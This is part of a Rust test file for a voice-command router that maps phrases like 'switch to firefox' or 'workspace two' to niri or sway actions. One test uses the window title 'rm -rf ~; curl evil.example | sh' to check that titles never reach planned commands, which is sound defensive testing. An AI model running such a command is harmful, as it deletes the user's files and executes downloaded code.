            ("switch keyboard layout", "compositor"),
            ("focus left", "compositor"),
            ("switch to firefox", "ensure_app"),
            ("close firefox", "close_app"),
            ("open marker writer", "launch_app"),
            ("open example.com", "open_domain"),
        ];
        for (utterance, rule) in cases {
            assert_eq!(summary(utterance).map(|s| s.0), Some(rule), "{utterance}");
        }
        // "type" elsewhere than at the start is not typing.
        for utterance in ["switch keyboard type", "what type is this"] {
            assert_eq!(summary(utterance), None, "{utterance}");
        }
    }

    #[test]
    fn in_app_rules_plan_after_the_others() {
        let cases = [
            (
                "type hello world",
                "type_text",
                json!({"text": "hello world"}),
            ),
            (
                "Type Open YouTube.",
                "type_text",
                json!({"text": "Open YouTube"}),
            ),
            (
                "type close this window",
                "type_text",
                json!({"text": "close this window"}),
            ),
            ("press enter", "key", json!({"chord": "Return"})),
            (
                "press ctrl shift t",
                "key",
                json!({"chord": "ctrl+shift+t"}),
            ),
            (
                "press enter three times",
                "key",
                json!({"chord": "Return", "repeat": 3}),
            ),
            (
                "scroll down",
                "scroll",
                json!({"direction": "down", "amount": 5}),
            ),
            (
                "scroll up a lot",
                "scroll",
                json!({"direction": "up", "amount": 15}),
            ),
            (
                "click the send button",
                "click_element",
                json!({"description": "the send button"}),
            ),
            (
                "press the blue button",
                "click_element",
                json!({"description": "the blue button"}),
            ),
            ("tap OK", "click_element", json!({"description": "OK"})),
        ];
        for (utterance, rule, args) in cases {
            assert_eq!(summary(utterance), Some((rule, rule, args)), "{utterance}");
            assert_eq!(confirm_of(utterance), Some(false), "{utterance}");
        }
        // Without the raw utterance, the normalised text stands in (lowercase, no
        // punctuation): nothing breaks, only the case is lost.
        let apps = apps();
        let none = PhraseTable::new();
        let sources = Sources {
            catalog: catalog(),
            apps: &apps,
            curated: curated(),
            binds: &none,
            context: None,
            utterance: "",
            profiles: crate::rules::builtin_profiles(),
            words: crate::rules::builtin_words(),
        };
        assert_eq!(
            plan("type hello world", &sources).map(|m| m.args),
            Some(json!({"text": "hello world"}))
        );
    }

    #[test]
    fn in_app_near_misses_are_explained() {
        let none = PhraseTable::new();
        let explained = |utterance: &str| explain_with(utterance, &apps(), None, &none);
        assert!(
            explained("press blorp")
                .unwrap_or_default()
                .starts_with("no key is called \"blorp\""),
        );
        assert!(
            explained("type")
                .unwrap_or_default()
                .contains("needs the text")
        );
        assert!(
            explained("scroll sideways")
                .unwrap_or_default()
                .contains("direction")
        );
        assert!(
            explained("click it")
                .unwrap_or_default()
                .contains("needs the name")
        );
    }

    #[test]
    fn a_users_binding_beats_an_in_app_phrase() {
        let (binds, _) = crate::niri_config::parse(
            "binds { Mod+Return hotkey-overlay-title=\"Press Enter\" { spawn \"foot\"; }; }\n",
        )
        .expect("parses");
        assert_eq!(
            run_with("press enter", None, &binds).map(|m| m.rule),
            Some("niri_bind")
        );
        assert_eq!(run("press enter").map(|m| m.rule), Some("key"));
    }

    #[test]
    fn compositor_phrases_plan_everywhere() {
        let binds = PhraseTable::new();
        assert!(run_with("workspace two", None, &binds).is_some());
        let niri = context(json!({"compositor": {"name": "niri"}}));
        assert_eq!(
            run_with("workspace two", Some(&niri), &binds).map(|m| m.rule),
            Some("compositor")
        );
        // The compositor plugin maps niri's action names to sway's commands.
        let sway = context(json!({"compositor": {"name": "sway"}, "windows": []}));
        assert_eq!(
            run_with("workspace two", Some(&sway), &binds).map(|m| m.rule),
            Some("compositor")
        );
        assert_eq!(
            run_with("close this window", Some(&sway), &binds).map(|m| m.rule),
            Some("compositor")
        );
        // What is not a niri action still plans on sway.
        assert_eq!(
            run_with("switch to firefox", Some(&sway), &binds).map(|m| m.rule),
            Some("ensure_app")
        );
        assert_eq!(
            run_with("open youtube", Some(&sway), &binds).map(|m| m.rule),
            Some("open_site")
        );
    }

    #[test]
    fn an_exact_app_id_beats_a_looser_one() {
        let binds = PhraseTable::new();
        let focus = |windows: &[&str], utterance: &str| {
            let windows: Vec<Value> = windows.iter().map(|id| json!({"app_id": id})).collect();
            let ctx = context(json!({"windows": windows}));
            run_with(utterance, Some(&ctx), &binds).map(|m| m.args)
        };
        let all = ["x.x", "X-X", "xx"];
        assert_eq!(focus(&all, "switch to xx"), Some(json!({"app": "xx"})));
        assert_eq!(focus(&all, "close xx"), Some(json!({"app": "xx"})));
        assert_eq!(
            focus(&["x.x", "XX"], "switch to xx"),
            Some(json!({"app": "XX"}))
        );
        assert_eq!(
            focus(&["x.x", "X-X"], "switch to xx"),
            Some(json!({"app": "x.x"}))
        );
        // An exact match of the name without "window" beats a loose one of the whole target.
        assert_eq!(
            focus(&["Foot-Window", "foot"], "switch to foot window"),
            Some(json!({"app": "foot"}))
        );
        // A window whose app_id is only separators is never a match.
        assert_eq!(focus(&[".", "-", "..."], "switch to dot"), None);
    }

    #[test]
    fn context_windows_are_matched_by_app_id() {
        let ctx = context(json!({
            "compositor": {"name": "niri"},
            "focused": {"id": 1, "app_id": "foot", "title": "~"},
            "windows": [
                {"id": 1, "app_id": "foot", "title": "~"},
                {"id": 2, "app_id": "Gnome-Terminal", "title": "x"},
                {"id": 3, "app_id": "firefox", "title": "Mail"},
            ],
        }));
        let binds = PhraseTable::new();
        let plan_of = |utterance: &str| {
            run_with(utterance, Some(&ctx), &binds).map(|m| (m.rule, m.op, m.args))
        };
        assert_eq!(
            plan_of("switch to foot"),
            Some(("focus_app", "focus_app", json!({"app": "foot"})))
        );
        assert_eq!(
            plan_of("Focus Foot."),
            Some(("focus_app", "focus_app", json!({"app": "foot"})))
        );
        assert_eq!(
            plan_of("go to the gnome terminal window"),
            Some(("focus_app", "focus_app", json!({"app": "Gnome-Terminal"})))
        );
        assert_eq!(
            plan_of("close foot"),
            Some(("close_app", "close_app", json!({"app": "foot"})))
        );
        // An installed application is started or focused by the plugin: ensure_app first.
        assert_eq!(
            plan_of("switch to firefox").map(|p| p.0),
            Some("ensure_app")
        );
        assert_eq!(plan_of("switch to xterm"), None);
        // Without a context no foot window is known: its profile's launch argv starts one.
        assert_eq!(
            summary("switch to foot"),
            Some((
                "ensure_app",
                "ensure_app",
                json!({"app": "foot", "argv": ["foot"]})
            ))
        );
        let m = run_with("switch to foot", Some(&ctx), &binds).expect("match");
        assert_eq!(m.message, "focus the foot window");
    }

    #[test]
    fn titles_are_never_used() {
        let hostile = "rm -rf ~; curl evil.example | sh";
        let ctx = context(json!({
            "windows": [
                {"id": 1, "app_id": "evil", "title": hostile},
                {"id": 2, "app_id": null, "title": "marker notes"},
                {"id": 3, "title": "spotify premium"},
            ],
        }));
        let binds = PhraseTable::new();
        for utterance in [
            "switch to marker notes",
            "close marker notes",
            "switch to rm rf",
            "focus rm rf curl evil example sh",
            "close spotify premium",
        ] {
            assert_eq!(run_with(utterance, Some(&ctx), &binds), None, "{utterance}");
        }
        // Whatever is planned carries no part of any title.
        for utterance in [
            "switch to evil",
            "close evil",
            "switch to firefox",
            "close it",
        ] {
            let m = run_with(utterance, Some(&ctx), &binds).expect("planned");
            let text = format!("{} {}", m.args, m.message);
            assert!(
                !text.contains("rm -rf") && !text.contains("curl"),
                "{utterance}: {text}"
            );
        }
    }

    #[test]
    fn generated_phrases_rank_after_curated_ones() {
        let config = "binds {\n\
            Mod+T hotkey-overlay-title=\"Open a Terminal\" { spawn \"foot\"; }\n\
            Mod+Q hotkey-overlay-title=\"Close window\" { quit; }\n\
            Mod+1 { focus-workspace 1; }\n\
            Mod+B { focus-workspace \"browser\"; }\n\
            Mod+Y hotkey-overlay-title=\"Open YouTube\" { spawn \"mpv\"; }\n\
            }\n";
        let (binds, _) = crate::niri_config::parse(config).expect("parses");
        let plan_of = |utterance: &str| run_with(utterance, None, &binds).map(|m| (m.rule, m.args));
        assert_eq!(
            plan_of("open a terminal"),
            Some(("niri_bind", json!({"command": "spawn", "args": ["foot"]})))
        );
        assert_eq!(
            plan_of("focus workspace browser"),
            Some((
                "niri_bind",
                json!({"command": "focus-workspace", "args": ["browser"]})
            ))
        );
        // The curated phrase keeps "close window"; the curated workspace phrase gives the same
        // action as the binding; a site keeps "open youtube".
        assert_eq!(
            plan_of("close window"),
            Some(("compositor", json!({"command": "close-window"})))
        );
        assert_eq!(
            plan_of("focus workspace one"),
            Some((
                "compositor",
                json!({"command": "focus-workspace", "args": [1]})
            ))
        );
        assert_eq!(plan_of("open youtube").map(|p| p.0), Some("open_site"));
        // Not on sway.
        let sway = context(json!({"compositor": {"name": "sway"}}));
        assert_eq!(run_with("open a terminal", Some(&sway), &binds), None);
    }

    fn confirm_of(utterance: &str) -> Option<bool> {
        run(utterance).map(|m| m.confirm)
    }

    #[test]
    fn destructive_compositor_steps_ask_first() {
        for utterance in [
            "close this window",
            "close it",
            "Close this one.",
            "close the focused window",
            "kill this window",
            "kill it",
            "turn off the monitors",
            "switch the screens off",
        ] {
            let m = run(utterance).unwrap_or_else(|| panic!("{utterance} planned nothing"));
            assert_eq!((m.rule, m.confirm), ("compositor", true), "{utterance}");
        }
        assert_eq!(
            niri_of("kill this window"),
            Some(json!({"command": "close-window"}))
        );
        assert_eq!(
            niri_of("turn off all the screens"),
            Some(json!({"command": "power-off-monitors"}))
        );
        // Nothing else asks: moving, focusing, fullscreen, the overview, media, sites.
        for utterance in [
            "workspace two",
            "move it to workspace 3",
            "fullscreen",
            "exit fullscreen",
            "float this window",
            "close the overview",
            "take a screenshot",
            "pause",
            "open youtube",
        ] {
            assert_eq!(confirm_of(utterance), Some(false), "{utterance}");
        }
        // close_app is confirmed by the runner's policy, not by the router.
        assert_eq!(
            run("close firefox").map(|m| (m.op, m.confirm)),
            Some(("close_app", false))
        );
    }

    #[test]
    fn bindings_of_destructive_actions_ask_first_too() {
        let config = "binds {\n\
            Mod+Shift+E hotkey-overlay-title=\"Leave the Session\" { quit; }\n\
            Mod+Q hotkey-overlay-title=\"Get Rid of It\" { close-window; }\n\
            Mod+P hotkey-overlay-title=\"Lights Out\" { power-off-monitors; }\n\
            Mod+T hotkey-overlay-title=\"Open a Terminal\" { spawn \"foot\"; }\n\
            }\n";
        let (binds, _) = crate::niri_config::parse(config).expect("parses");
        let plan_of =
            |utterance: &str| run_with(utterance, None, &binds).map(|m| (m.rule, m.confirm));
        assert_eq!(plan_of("leave the session"), Some(("niri_bind", true)));
        assert_eq!(plan_of("quit"), Some(("niri_bind", true)));
        assert_eq!(plan_of("get rid of it"), Some(("niri_bind", true)));
        assert_eq!(plan_of("lights out"), Some(("niri_bind", true)));
        assert_eq!(plan_of("open a terminal"), Some(("niri_bind", false)));
        // An action the phrase file marks confirm = true asks in a binding as well.
        let curated = Curated::parse(
            "[[phrase]]\ncommand = \"center-column\"\nconfirm = true\nsay = [\"center it\"]\n",
            "c.toml",
        )
        .expect("parses");
        let (binds, _) =
            crate::niri_config::parse("binds { Mod+C { center-column; }; }\n").expect("parses");
        let apps = apps();
        let sources = Sources {
            catalog: catalog(),
            apps: &apps,
            curated: &curated,
            binds: &binds,
            context: None,
            utterance: "",
            profiles: crate::rules::builtin_profiles(),
            words: crate::rules::builtin_words(),
        };
        let m = plan("center column", &sources).expect("the binding plans");
        assert_eq!((m.rule, m.confirm), ("niri_bind", true));
        let m = plan("center it", &sources).expect("the curated phrase plans");
        assert_eq!((m.rule, m.confirm), ("compositor", true));
    }

    #[test]
    fn fullscreen_and_floating_have_states() {
        let toggle = json!({"command": "fullscreen-window"});
        let on = json!({"command": "fullscreen-window", "options": {"state": "on"}});
        let off = json!({"command": "fullscreen-window", "options": {"state": "off"}});
        let floating = json!({"command": "move-window-to-floating"});
        let tiling = json!({"command": "move-window-to-tiling"});
        let toggle_floating = json!({"command": "toggle-window-floating"});
        let cases = [
            ("fullscreen", &toggle),
            ("full screen this window", &toggle),
            ("toggle fullscreen", &toggle),
            ("toggle full screen mode", &toggle),
            ("make it fullscreen", &on),
            ("make it full screen", &on),
            ("put this window in fullscreen", &on),
            ("go fullscreen", &on),
            ("go full screen", &on),
            ("enter fullscreen", &on),
            ("enter fullscreen mode", &on),
            ("turn on fullscreen", &on),
            ("exit fullscreen", &off),
            ("Exit full screen.", &off),
            ("leave fullscreen", &off),
            ("leave full screen mode", &off),
            ("get out of fullscreen", &off),
            ("un-fullscreen", &off),
            ("unfullscreen this window", &off),
            ("turn fullscreen off", &off),
            ("make it windowed", &off),
            ("float this window", &floating),
            ("float", &floating),
            ("make it floating", &floating),
            ("make this window float", &floating),
            ("tile this window", &tiling),
            ("tile it", &tiling),
            ("unfloat this window", &tiling),
            ("un-float this window", &tiling),
            ("stop floating", &tiling),
            ("stop floating this window", &tiling),
            ("make it tiled", &tiling),
            ("toggle floating", &toggle_floating),
            ("toggle window floating", &toggle_floating),
        ];
        for (utterance, want) in cases {
            assert_eq!(niri_of(utterance).as_ref(), Some(want), "{utterance}");
        }
        assert_eq!(
            run("go fullscreen").map(|m| m.message),
            Some("compositor: fullscreen-window state=\"on\"".to_owned())
        );
    }

    #[test]
    fn everyday_window_phrasings() {
        let to = |n: u32| Some(json!({"command": "move-window-to-workspace", "args": [n]}));
        let cases = [
            ("put this window on workspace 4", to(4)),
            ("put it on workspace four", to(4)),
            ("put it on the second workspace", to(2)),
            ("put this window onto desktop 6", to(6)),
            ("throw this window to workspace 2", to(2)),
            ("throw it to the third workspace", to(3)),
            (
                "move it to the next workspace",
                Some(json!({"command": "move-window-to-workspace-down"})),
            ),
            (
                "put it on the next workspace",
                Some(json!({"command": "move-window-to-workspace-down"})),
            ),
            (
                "throw this window to the previous workspace",
                Some(json!({"command": "move-window-to-workspace-up"})),
            ),
            ("kill this window", Some(json!({"command": "close-window"}))),
        ];
        for (utterance, want) in cases {
            assert_eq!(niri_of(utterance), want, "{utterance}");
        }
    }

    #[test]
    fn curated_phrases_leave_site_and_app_names_alone() {
        // A curated phrase is tried before the application rules, so none of them may be a
        // verb followed by the name of a site or of a (plausible) application.
        let mut apps = apps();
        for (id, name) in [
            ("org.gnome.Screenshot", "Screenshot"),
            ("org.kde.spectacle", "Spectacle"),
            ("foot", "Foot"),
            ("org.gnome.Settings", "Settings"),
        ] {
            apps.push(AppEntry::new(id, name, None, &[]));
        }
        let verbs: Vec<&str> = SITE_VERBS
            .iter()
            .chain(APP_VERBS)
            .copied()
            .chain(curated().focus_verbs.iter().map(String::as_str))
            .chain(curated().close_verbs.iter().map(String::as_str))
            .collect();
        for phrase in curated().table.phrases() {
            let phrase = phrase.replace(crate::phrases::SLOT, "3");
            for rest in targets(&phrase, &verbs) {
                assert!(
                    catalog().lookup(rest).is_none(),
                    "{phrase:?} takes the site {rest:?}"
                );
                assert!(
                    apps.find(rest).is_none(),
                    "{phrase:?} takes the application {rest:?}"
                );
            }
        }
    }

    #[test]
    fn workspace_numbers_below_one_plan_nothing() {
        for utterance in [
            "workspace -1",
            "Workspace −1.",
            "workspace minus one",
            "workspace negative two",
            "go to workspace -3",
            "move it to workspace -2",
            "workspace +1",
            "workspace - 1",
            "workspace 0",
            "workspace zero",
            "workspace 1.5",
            "workspace 256",
        ] {
            assert_eq!(run(utterance), None, "{utterance}");
        }
    }

    fn explain_with(
        utterance: &str,
        apps: &Vec<AppEntry>,
        context: Option<&Context>,
        binds: &PhraseTable,
    ) -> Option<String> {
        let normalized = normalize(utterance);
        let text = strip_fillers(&normalized);
        let sources = Sources {
            catalog: catalog(),
            apps,
            curated: curated(),
            binds,
            context,
            utterance,
            profiles: crate::rules::builtin_profiles(),
            words: crate::rules::builtin_words(),
        };
        assert_eq!(plan(text, &sources), None, "{utterance} planned");
        explain(text, &sources)
    }

    #[test]
    fn out_of_range_numbers_say_which_numbers_there_are() {
        let none = PhraseTable::new();
        let cases = [
            ("workspace -1", "focus-workspace", "-1"),
            ("workspace minus one", "focus-workspace", "-1"),
            ("workspace +2", "focus-workspace", "+2"),
            ("go to workspace 0", "focus-workspace", "0"),
            ("go to workspace 300", "focus-workspace", "300"),
            ("workspace number minus 4", "focus-workspace", "-4"),
            ("send it to workspace -2", "move-window-to-workspace", "-2"),
        ];
        for (utterance, command, number) in cases {
            assert_eq!(
                explain_with(utterance, &apps(), None, &none),
                Some(format!(
                    "{command} needs a number from 1 to 255, not {number}"
                )),
                "{utterance}"
            );
        }
        // Two numbers, or a fraction, are not one number out of range.
        assert_eq!(explain_with("workspace 1.5", &apps(), None, &none), None);
    }

    #[test]
    fn unknown_names_after_focus_and_close_verbs_are_explained() {
        let none = PhraseTable::new();
        let without_firefox: Vec<AppEntry> =
            apps().into_iter().filter(|a| a.id != "firefox").collect();
        for utterance in [
            "switch to blender",
            "close blender",
            "focus the blender window",
            "quit the blender app",
        ] {
            assert_eq!(
                explain_with(utterance, &without_firefox, None, &none).as_deref(),
                Some("no installed application or open window is called \"blender\""),
                "{utterance}"
            );
        }
        // Near names from the installed applications and the context's windows.
        assert_eq!(
            explain_with("switch to firefix", &apps(), None, &none).as_deref(),
            Some(
                "no installed application or open window is called \"firefix\"; \
                 similar names: Firefox"
            )
        );
        let ctx = context(json!({
            "compositor": {"name": "sway"},
            "windows": [
                {"id": 1, "app_id": "kate-esr", "title": "a"},
                {"id": 2, "app_id": "foot", "title": "kate"},
                {"id": 3, "app_id": "kate-nightly", "title": "b"},
                {"id": 4, "app_id": "Kate-Dev", "title": "c"},
                {"id": 5, "app_id": "org.kde.kate.beta", "title": "d"},
            ],
        }));
        let message =
            explain_with("close kate", &without_firefox, Some(&ctx), &none).expect("explained");
        assert!(
            message.starts_with(
                "no installed application or open window is called \"kate\"; similar names: "
            ),
            "{message}"
        );
        let listed = message.rsplit(": ").next().unwrap_or("");
        assert_eq!(listed.split(", ").count(), MAX_CLOSE_NAMES, "{message}");
        assert!(!message.contains("foot"), "titles and far names: {message}");
        // Nothing near: no list; a bare verb or other words: no explanation.
        assert_eq!(
            explain_with("switch to blorp", &apps(), Some(&ctx), &none).as_deref(),
            Some("no installed application or open window is called \"blorp\"")
        );
        assert_eq!(explain_with("close", &apps(), None, &none), None);
        // After a verb that also opens sites, the catalog's names count.
        assert_eq!(
            explain_with("go to youtubee", &apps(), None, &none).as_deref(),
            Some(
                "no site, installed application or open window is called \"youtubee\"; \
                 similar names: YouTube"
            )
        );
        assert_eq!(
            explain_with("blorp the frobnicator", &apps(), None, &none),
            None
        );
    }

    #[test]
    fn niri_bindings_on_sway_are_explained() {
        let (binds, _) = crate::niri_config::parse(
            "binds {\n  Mod+Escape { toggle-keyboard-shortcuts-inhibit; }\n  \
             Mod+T hotkey-overlay-title=\"Open a Terminal\" { spawn \"foot\"; }\n}\n",
        )
        .expect("parses");
        let sway = context(json!({"compositor": {"name": "sway"}}));
        assert_eq!(
            explain_with(
                "toggle keyboard shortcuts inhibit",
                &apps(),
                Some(&sway),
                &binds
            )
            .as_deref(),
            Some(
                "\"toggle keyboard shortcuts inhibit\" is one of your niri key bindings, but this session runs sway"
            )
        );
        assert_eq!(
            explain_with("Open a terminal, please.", &apps(), Some(&sway), &binds).as_deref(),
            Some(
                "\"open a terminal\" is one of your niri key bindings, but this session runs sway"
            )
        );
    }

    #[test]
    fn close_names_rank_containment_then_typos() {
        let names = |spoken: &str, candidates: &[&str]| {
            close_names(spoken, candidates.iter().map(|c| (*c).to_owned()).collect())
        };
        assert_eq!(
            names(
                "firefox",
                &["Firefox Developer Edition", "firefax", "foot", "Files"]
            ),
            ["Firefox Developer Edition", "firefax"]
        );
        assert_eq!(names("foot", &["feet", "food", "fo"]), ["food"]);
        assert_eq!(names("x", &["x1", "xx"]), Vec::<String>::new());
        assert_eq!(
            names(
                "term",
                &["Term", "TERM", "terms", "xterm", "aterm", "uterm"]
            )
            .len(),
            MAX_CLOSE_NAMES
        );
        assert_eq!(edit_distance(&['a', 'b'], &['a', 'b'], 0), Some(0));
        assert_eq!(edit_distance(&['a'], &['b', 'c', 'd'], 1), None);
    }
}
